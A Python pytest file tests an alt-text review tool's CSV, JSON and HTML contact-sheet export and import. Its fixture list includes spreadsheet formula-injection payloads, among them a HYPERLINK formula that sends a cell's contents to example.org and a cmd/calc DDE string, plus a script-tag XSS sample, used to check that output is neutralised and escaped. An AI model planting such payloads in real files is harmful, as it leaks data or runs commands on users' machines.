"""Texts leave as CSV, JSON and a contact sheet; a table comes back with decisions, and computes nothing on its way."""

from __future__ import annotations

import codecs
import csv
import io
import json
from collections.abc import Generator
from pathlib import Path

import pytest
from PIL import Image

from browser import Browser
from fakes import lines_of
from sightline.annotate.batch_json import to_json
from sightline.annotate.checks import findings
from sightline.annotate.contact_sheet import to_html
from sightline.annotate.findings import Rule
from sightline.annotate.tables import COLUMNS, take_in, to_csv
from sightline.conversation import Writer
from sightline.errors import TableError
from sightline.store.database import open_database
from sightline.store.review_values import Batch, Entry, NewEntry, Options, Purpose, Status
from sightline.store.reviews import Reviews

MODEL = Writer("=Tiny", digest="ab" * 32)
NASTY = [
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1",
    "'=1",
    "''=1",
    "  = 1",
    "＝1+1",
    'A cat; a dog, and\na "bird"',
    "猫 🐈 חתול",
    "' quoted '",
    "O'Neill",
]


@pytest.fixture
def reviews(tmp_path: Path) -> Generator[Reviews]:
    database = open_database(tmp_path / "data")
    yield Reviews(database)
    database.close()


@pytest.fixture
def batch(reviews: Reviews, tmp_path: Path) -> Batch:
    return reviews.create("Holiday & <b>", tmp_path)


def add(reviews: Reviews, batch: Batch, count: int = 4) -> list[Entry]:
    assert batch.folder is not None
    return reviews.add(batch.id, [NewEntry(batch.folder / "sub" / f"{number}.jpg") for number in range(count)])


def table(*rows: tuple[str, ...], **how: str) -> bytes:
    out = io.StringIO()
    csv.writer(out, **how).writerows(rows)
    return out.getvalue().encode()


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def sheet(tmp_path: Path) -> Path:
    return tmp_path / "texts.csv"


def test_a_row_for_each_picture_that_no_spreadsheet_computes(reviews, batch):
    for entry, text in zip(add(reviews, batch, len(NASTY)), NASTY, strict=True):
        reviews.add_version(entry.id, text, text, author=MODEL)
    head, *rows = cells(to_csv(batch, reviews.entries(batch.id)))
    assert head == list(COLUMNS)
    assert [row[0] for row in rows] == [f"sub/{number}.jpg" for number in range(len(NASTY))]
    for row in rows:
        for cell in row:
            assert cell.lstrip()[:1] not in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}
            assert cell[:1] not in {"\t", "\r", "\n"}


def test_a_table_that_nobody_touched_changes_nothing(reviews, batch, sheet):
    for entry, text in zip(add(reviews, batch, len(NASTY)), NASTY, strict=True):
        reviews.add_version(entry.id, text, text, author=MODEL)
    before = reviews.entries(batch.id)
    sheet.write_bytes(to_csv(batch, before))
    taken = take_in(reviews, batch, sheet)
    assert (taken.entries, taken.problems) == ([], [])
    assert reviews.entries(batch.id) == before


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_what_spreadsheets_write_is_read(reviews, batch, sheet, separator, encoding):
    first, second, third, fourth = add(reviews, batch)
    reviews.add_version(fourth.id, "A draft", author=MODEL)
    text = table(
        ("File", " alt_text", "Status"),
        ("sub/0.jpg", "Ünë cat, black", "Approved"),
        ("sub\\1.jpg", "", "DECORATIVE"),
        ("sub/3.jpg", "A draft", "rejected"),
        delimiter=separator,
    ).decode()
    sheet.write_bytes(text.encode(encoding))
    taken = take_in(reviews, batch, sheet)
    assert taken.problems == []
    assert [(entry.id, entry.status, entry.alt_text) for entry in taken.entries] == [
        (first.id, Status.APPROVED, "Ünë cat, black"),
        (second.id, Status.DECORATIVE, ""),
        (fourth.id, Status.REJECTED, "A draft"),
    ]
    assert taken.entries == [reviews.entry(id) for id in (first.id, second.id, fourth.id)]
    assert reviews.entry(third.id) == third


def test_an_edited_text_is_another_version_that_waits_until_it_is_approved(reviews, batch, sheet):
    (entry,) = add(reviews, batch, 1)
    reviews.add_version(entry.id, "A cat.", "On a mat.", author=MODEL)
    sheet.write_bytes(table(("file", "alt_text", "status"), ("sub/0.jpg", "A black cat.", "drafted")))
    (changed,) = take_in(reviews, batch, sheet).entries
    assert (changed.status, changed.alt_text, changed.extended) == (Status.DRAFTED, "A black cat.", "On a mat.")
    assert changed.edited
    sheet.write_bytes(table(("file", "alt_text", "extended"), ("sub/0.jpg", "A black cat.", "")))
    (changed,) = take_in(reviews, batch, sheet).entries  # without a column for it, what has a text is approved
    assert (changed.status, changed.extended) == (Status.APPROVED, "")
    assert len(reviews.versions(entry.id)) == 3


def test_rows_that_are_no_use_are_told_and_cost_the_others_nothing(reviews, batch, sheet):
    add(reviews, batch)
    sheet.write_bytes(
        table(
            ("file", "alt_text", "status", "purpose"),
            ("elsewhere.jpg", "A cat", "approved", ""),
            ("sub/0.jpg", "", "approved", ""),
            ("sub/1.jpg", "A cat", "perhaps", ""),
            ("sub/2.jpg", "A chart", "approved", "complex"),
            ("sub/2.jpg", "Another", "approved", ""),
            ("sub/3.jpg", "A cat", "approved", "fun"),
            ("sub/3.jpg",),
            (),
        )
    )
    taken = take_in(reviews, batch, sheet)
    assert [problem[:17] for problem in taken.problems] == [
        "Row 2: elsewhere.",
        "Row 3: sub/0.jpg ",
        "Row 4: sub/1.jpg:",
        "Row 6: sub/2.jpg ",
        "Row 7: sub/3.jpg:",
        "Row 8: sub/3.jpg ",
    ]
    assert [(e.status, e.alt_text, e.purpose) for e in reviews.entries(batch.id)] == [
        (Status.NEW, "", None),
        (Status.DRAFTED, "A cat", None),
        (Status.APPROVED, "A chart", Purpose.COMPLEX),
        (Status.APPROVED, "A cat", None),
    ]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "does not name the columns file, alt_text"),
        (b"name,text\n1,2\n", "does not name the columns file, alt_text"),
        ("file,alt_text\na.jpg,Ünë\n".encode("cp1252"), "CSV UTF-8"),
        (b'file,alt_text\n"a.jpg,x\n', "it is no table"),
        (codecs.BOM_UTF16_LE + b"a", "CSV UTF-8"),
        (None, "cannot be read"),
    ],
)
def test_a_file_that_is_no_such_table_says_so(reviews, batch, sheet, data, said):
    if data is not None:
        sheet.write_bytes(data)
    with pytest.raises(TableError, match=said) as raised:
        take_in(reviews, batch, sheet)
    assert "texts.csv" in str(raised.value)


def test_pictures_of_a_document_are_rows_of_their_own(reviews, batch, sheet, tmp_path):
    document = tmp_path / "report.docx"
    parts = [NewEntry(tmp_path / "data" / f"{n}.png", document, f"word#{n}", f"Header {n}") for n in (1, 2)]
    reviews.add(batch.id, parts)
    sheet.write_bytes(
        table(("file", "place", "alt_text"), ("report.docx", "Header 2", "A logo"), ("report.docx", "", "x"))
    )
    taken = take_in(reviews, batch, sheet)
    assert [(entry.anchor, entry.alt_text) for entry in taken.entries] == [("word#2", "A logo")]
    assert len(taken.problems) == 1


def test_the_place_of_a_picture_is_for_people_and_comes_back_to_the_very_one(reviews, batch, sheet, tmp_path):
    document = tmp_path / "report.docx"
    names = ["Slide 3: a.png", "Header: logo.png", "Header: logo.png", "=Slide\n4", "Header: logo.png [one#2]"]
    parts = ["three", "one", "two", "four", "five"]
    added = reviews.add(
        batch.id,
        [
            NewEntry(tmp_path / f"{n}.png", document, f"{part}#{n}", name)
            for n, (part, name) in enumerate(zip(parts, names, strict=True), 1)
        ],
    )
    data = to_csv(batch, added)
    assert [row[1] for row in cells(data)[1:]] == [
        "Slide 3: a.png",
        "Header: logo.png [one#2]",
        "Header: logo.png [two#3]",
        "'=Slide 4",
        "Header: logo.png [one#2] [five#5]",
    ]
    for number, row in enumerate(rows := cells(data)):
        row[4] = f"Text {number}" if number else row[4]
    sheet.write_bytes(table(*map(tuple, rows)))
    reviews.remove([added[1].id])  # what was told apart by more than its name is still found, and no other
    taken = take_in(reviews, batch, sheet)
    assert [(entry.id, entry.alt_text) for entry in taken.entries] == [
        (added[place].id, f"Text {place + 1}") for place in (0, 2, 3, 4)
    ]
    assert [problem.split(":")[0] for problem in taken.problems] == ["Row 3"]


def test_names_that_are_no_letters_come_back(reviews, batch, sheet, tmp_path):
    odd = tmp_path / b"\xff.jpg".decode("utf-8", "surrogateescape")
    (entry,) = reviews.add(batch.id, [NewEntry(odd)])
    sheet.write_bytes(
        to_csv(batch, [entry]).replace(b",new,", b",approved,").replace(b"approved,,,", b"approved,,A cat,")
    )
    assert [changed.id for changed in take_in(reviews, batch, sheet).entries] == [entry.id]


def test_what_is_wrong_with_a_text_leaves_with_it(reviews, batch, tmp_path):
    entries = add(reviews, batch, 3)
    texts = ("Image of a cat", "A dog asleep on a red sofa.", "A sign that says “Hotel”.")
    entries = [
        reviews.add_version(entry.id, text, author=MODEL, digest=str(n) * 64)
        for n, (entry, text) in enumerate(zip(entries, texts, strict=True))
    ]
    words = {"2" * 64: lines_of("Motel")}
    checking = findings(entries, batch.options, words.get)
    while True:
        try:
            next(checking)
        except StopIteration as stop:
            found = stop.value
            break
    rules = {id: [finding.rule for finding in each] for id, each in found.items()}
    assert rules == {entries[0].id: [Rule.REDUNDANT], entries[1].id: [], entries[2].id: [Rule.UNREAD_QUOTE]}
    reason = found[entries[0].id][0].reason
    assert cells(to_csv(batch, entries, found))[1][COLUMNS.index("remarks")] == reason
    (remark,) = json.loads(to_json(reviews, batch, found))["pictures"][0]["remarks"]
    assert (remark["rule"], remark["reason"], remark["start"]) == ("redundant", reason, 0)


def test_json_has_every_version_and_who_wrote_it(reviews, batch):
    (entry,) = add(reviews, batch, 1)
    reviews.set_options(batch.id, Options(language="de", context={"event": "Ferien"}))
    reviews.add_version(entry.id, "Eine Katze.", author=Writer("Tiny", digest="ab" * 32, settings={"seed": 0}))
    reviews.add_version(entry.id, "Eine Kätzin.", status=Status.APPROVED)
    told = json.loads(to_json(reviews, reviews.batch(batch.id)))
    assert (told["format"], told["version"], told["options"]["language"]) == ("sightline-alt-texts", 1, "de")
    (picture,) = told["pictures"]
    assert (picture["file"], picture["status"], picture["alt_text"]) == ("sub/0.jpg", "approved", "Eine Kätzin.")
    first, second = picture["versions"]
    assert first["model"] == {"name": "Tiny", "sha256": "ab" * 32, "settings": {"seed": 0}}
    assert (second["model"], second["made_from"]) == (None, 1)


def test_the_contact_sheet_shows_every_picture_with_its_text(reviews, batch, tmp_path, browser: Browser):
    (tmp_path / "sub").mkdir()
    entries = add(reviews, batch, 4)
    for entry in entries[:3]:
        Image.new("RGB", (900, 300), "red").save(entry.path)
    reviews.set_options(batch.id, Options(language="de"))
    reviews.add_version(entries[0].id, 'Ein <script>alert("x")</script> & mehr', "Lang", author=MODEL)
    reviews.set_status([entries[1].id], Status.DECORATIVE)
    reviews.fail(entries[3].id, "3.jpg: the file does not exist.")
    making = to_html(reviews.batch(batch.id), reviews.entries(batch.id))
    steps = []
    while True:
        try:
            steps.append(next(making))
        except StopIteration as stop:
            page = stop.value.decode()
            break
    assert [(step.done, step.total) for step in steps] == [(n, 4) for n in range(5)]
    assert page.count("<img ") == 3
    assert "<script>" not in page
    assert (
        'alt="Ein &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; mehr" lang="de" width="240" height="80"'
        in page
    )
    assert 'alt="" width="240"' in page
    assert 'alt="sub/2.jpg"' in page
    assert page.count("The picture cannot be shown.") == 1
    assert "3.jpg: the file does not exist." in page
    file = tmp_path / "sheet.html"
    file.write_text(page, encoding="utf-8")
    visit = browser.visit(file)
    fetched = [url for url in visit.requests if not url.startswith("data:")]
    assert (visit.violations, visit.scripts, fetched) == ([], [], [file.as_uri()])
